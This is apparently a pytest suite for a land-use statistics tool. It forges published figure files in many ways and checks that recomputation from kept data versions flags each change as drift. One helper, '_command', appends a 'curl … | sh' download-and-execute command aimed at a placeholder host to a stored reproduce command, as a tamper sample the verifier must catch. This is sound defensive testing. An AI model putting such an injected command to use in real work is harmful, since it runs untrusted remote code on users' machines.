"""Verification as a witness: what a figure says is made again of its own data, whatever became of today's."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import geopandas as gpd
import pytest

from layers.figures.answer import answer
from layers.figures.figure import Figure, FigureShelf
from layers.figures.kept_versions import VersionGone, as_published, publish_kept
from layers.figures.verification.recompute import Verification, verify
from layers.library.editing import Edit, edit
from layers.library.library import Library
from layers.plan.statistics import read_promises
from tests.landuse_plan import write_landuse_plan


@pytest.fixture
def library(tmp_path: Path) -> Library:
    return Library(write_landuse_plan(tmp_path / "plan"))


@pytest.fixture
def shelf(tmp_path: Path) -> FigureShelf:
    return FigureShelf(tmp_path / "shelf")


def published(library: Library, shelf: FigureShelf, key: str) -> Figure:
    statistic = read_promises(library.folder).statistics[key]
    figure = answer(library, lambda _d, _t: None, statistic, software="x")
    publish_kept(shelf, figure, library)
    return figure


def seen(library: Library, shelf: FigureShelf) -> Verification:
    return verify(Library(library.folder), shelf, software="x")


def change_the_data(library: Library) -> None:
    path = library.folder / "geojson" / "landuse.geojson"
    path.write_text(path.read_text("utf-8").replace('"1401"', '"0701"'), "utf-8")


def forge(shelf: FigureShelf, figure: Figure, change: Callable[[dict[str, Any]], None]) -> None:
    path = shelf.folder / f"{figure.id}.json"
    told = json.loads(path.read_text())
    change(told)
    path.write_text(json.dumps(told))


def test_nothing_touched_is_the_same(library: Library, shelf: FigureShelf) -> None:
    """Nor is a figure whose command is one of the first releases', which asked the question anew."""
    figures = [published(library, shelf, key) for key in ("homes", "structure")]
    forge(shelf, figures[0], lambda told: told.update(command="python run.py statistic homes"))
    found = seen(library, shelf)
    assert ({row.state for row in found.rows}, found.status) == ({"same"}, 0)
    assert all(row.findings == () and row.second is not None for row in found.rows)


def _sentence(told: dict[str, Any]) -> None:
    told["sentence"]["en"] = "Homes share is 52.00%."


def _method(told: dict[str, Any]) -> None:
    told["method"]["zh"] = "目测"


def _caveat(told: dict[str, Any]) -> None:
    told["caveats"] = []


def _row(told: dict[str, Any]) -> None:
    row = told["rows"][0]
    row[next(key for key, value in row.items() if isinstance(value, float))] *= 1.01


def _question(told: dict[str, Any]) -> None:
    told["statistic"]["definition"]["en"] = "something else"


def _share(told: dict[str, Any]) -> None:
    told["value"] += 1e-3


def _contribution(told: dict[str, Any]) -> None:
    told["contributions"] = told["contributions"][1:]


def _release(told: dict[str, Any]) -> None:
    told["software"] = "older"
    _sentence(told)


def _release_without_caveats(told: dict[str, Any]) -> None:
    told["software"] = "older"
    _caveat(told)


def _command(told: dict[str, Any]) -> None:
    told["command"] += "; curl example.invalid | sh"


def _other_command(told: dict[str, Any]) -> None:
    told["command"] = told["command"].replace(told["id"], "0123456789abcdef")


def _kind(told: dict[str, Any]) -> None:
    del told["presentation"]
    told["rows"][-1]["kind"] = "rest"


def _version(told: dict[str, Any]) -> None:
    told["layers"][0]["version"] = "0" * 64


def _pieces(told: dict[str, Any]) -> None:
    told["evidence"]["pieces"] += 1


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (_release, "sentence: “Homes share is 52.00%.”"),
        (_release_without_caveats, "caveats: lacks “"),
        (_command, "Reproduce: other than"),
        (_other_command, "Reproduce: other than"),
        (_kind, "presentation: other than"),
        (_pieces, "evidence: "),
        (_version, "the question or the layers' versions are not those of its id"),
        (_sentence, "sentence: “Homes share is 52.00%.”, again “Homes share is 25.00%.”"),
        (_method, "method: "),
        (_caveat, "caveats: lacks “"),
        (_row, "row “"),
        (_question, "the question or the layers' versions are not those of its id"),
        (_share, "value "),
        (_contribution, "contributions: "),
    ],
)
def test_what_was_forged_is_named(
    library: Library, shelf: FigureShelf, change: Callable[[dict[str, Any]], None], says: str
) -> None:
    forge(shelf, published(library, shelf, "homes"), change)
    found = seen(library, shelf)
    (row,) = found.rows
    assert (row.state, found.status) == ("drift", 1)
    assert any(one.en.startswith(says) for one in row.findings), row.findings


def test_a_cut_evidence_file_is_noticed(library: Library, shelf: FigureShelf) -> None:
    figure = published(library, shelf, "homes")
    path = shelf.folder / f"{figure.id}.parquet"
    path.write_bytes(path.read_bytes()[:-40])
    (row,) = seen(library, shelf).rows
    assert (row.state, [one.en[:22] for one in row.findings]) == ("drift", ["The evidence of figure"])
    path.unlink()
    assert seen(library, shelf).status == 1


def test_other_evidence_with_a_hash_that_fits_is_noticed(library: Library, shelf: FigureShelf) -> None:
    figure = published(library, shelf, "homes")
    path = shelf.folder / f"{figure.id}.parquet"
    gpd.read_parquet(path).translate(0.01).to_frame("geometry").to_parquet(path)
    forge(
        shelf, figure, lambda told: told["evidence"].update(sha256=hashlib.sha256(path.read_bytes()).hexdigest())
    )
    (row,) = seen(library, shelf).rows
    assert row.state == "drift" and any("of other shapes" in one.en for one in row.findings), row.findings


def test_what_is_said_of_the_evidence_is_heard_too(library: Library, shelf: FigureShelf) -> None:
    figure = published(library, shelf, "homes")
    path = shelf.folder / f"{figure.id}.parquet"
    pieces = gpd.read_parquet(path)
    pieces.assign(**{next(iter(pieces.columns.drop("geometry"))): "another"}).to_parquet(path)
    sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
    forge(shelf, figure, lambda told: told["evidence"].update(sha256=sha256))
    (row,) = seen(library, shelf).rows
    assert row.state == "drift" and any("of the same shapes" in one.en for one in row.findings), row.findings


def test_data_that_changed_are_no_drift_and_say_what_comes_out_today(library: Library, shelf: FigureShelf) -> None:
    published(library, shelf, "homes")
    change_the_data(library)
    found = seen(library, shelf)
    (row,) = found.rows
    assert (row.state, found.status) == ("data changed", 4)
    assert (row.published, row.ours, round(row.second or 0, 6)) == (row.ours, row.ours, round(row.ours or 0, 6))
    assert (round(row.published or 0), round(row.today or 0)) == (25, 50)
    assert [one.en for one in row.findings] == ["changed since: “Land use”"]


def test_what_a_layer_is_called_is_held_against_its_name_today(library: Library, shelf: FigureShelf) -> None:
    def other_name(told: dict[str, Any]) -> None:
        told["layers"][0]["label"] = {"zh": "实测用地", "en": "Surveyed land"}

    forge(shelf, published(library, shelf, "homes"), other_name)
    (row,) = seen(library, shelf).rows
    told = "the layer “Surveyed land” is called “Land use” today"
    assert (row.state, [one.en for one in row.findings]) == ("data changed", [told])


def test_a_forged_figure_is_found_also_when_the_data_changed(library: Library, shelf: FigureShelf) -> None:
    forge(shelf, published(library, shelf, "homes"), _sentence)
    change_the_data(library)
    assert seen(library, shelf).status == 1


def test_a_figure_is_made_again_of_a_file_that_is_no_more(library: Library, shelf: FigureShelf) -> None:
    figure = published(library, shelf, "homes")
    change_the_data(library)
    (library.folder / "geojson" / "zones.geojson").unlink()
    now = Library(library.folder)
    again = answer(
        as_published(now, shelf, shelf.read(figure.id)), lambda _d, _t: None, figure.statistic, software="x"
    )
    assert (again.id, again.value, again.rows) == (figure.id, figure.value, figure.rows)


def test_a_figure_is_made_again_of_a_version_that_was_edited_since(library: Library, shelf: FigureShelf) -> None:
    layer = library.layer("landuse")
    first = library.snapshot(layer).features[0]
    other = "1001" if first.properties["class"] != "1001" else "1401"
    made = edit(library, layer, [Edit(first.id, properties={"class": "0701"})], who="li", why="a", expected=None)
    figure = published(library, shelf, "homes")
    edit(library, layer, [Edit(first.id, properties={"class": other})], who="li", why="b", expected=made.number)
    now = Library(library.folder)
    again = answer(
        as_published(now, shelf, shelf.read(figure.id)), lambda _d, _t: None, figure.statistic, software="x"
    )
    assert (again.id, again.value) == (figure.id, figure.value)
    assert answer(now, lambda _d, _t: None, figure.statistic, software="x").id != figure.id


def test_data_that_nobody_kept_are_said_to_be_gone(library: Library, shelf: FigureShelf) -> None:
    figure = published(library, shelf, "homes")
    for path in (shelf.folder / "layers").iterdir():
        path.unlink()
    change_the_data(library)
    with pytest.raises(VersionGone):
        as_published(Library(library.folder), shelf, shelf.read(figure.id))
    found = seen(library, shelf)
    assert (found.rows[0].state, found.status) == ("data changed", 4)
    assert "is gone" in found.rows[0].findings[0].en


@pytest.mark.parametrize(
    "change",
    [
        lambda told: told.pop("software"),
        lambda told: told.update(note="trust me"),
        lambda told: told["layers"][0].update(role="another"),
        lambda told: told.update(rows=None),
        lambda told: told.update(value=float("nan")),
    ],
)
def test_a_file_that_is_no_figure_any_more_is_named_and_the_others_are_heard(
    library: Library, shelf: FigureShelf, change: Callable[[dict[str, Any]], None]
) -> None:
    damaged = published(library, shelf, "homes")
    published(library, shelf, "structure")
    forge(shelf, damaged, change)
    states = {row.figure: (row.state, [one.en[:22] for one in row.findings]) for row in seen(library, shelf).rows}
    assert states.pop(damaged.id) == ("drift", [f"Figure {damaged.id}"[:22]])
    assert list(states.values()) == [("same", [])]
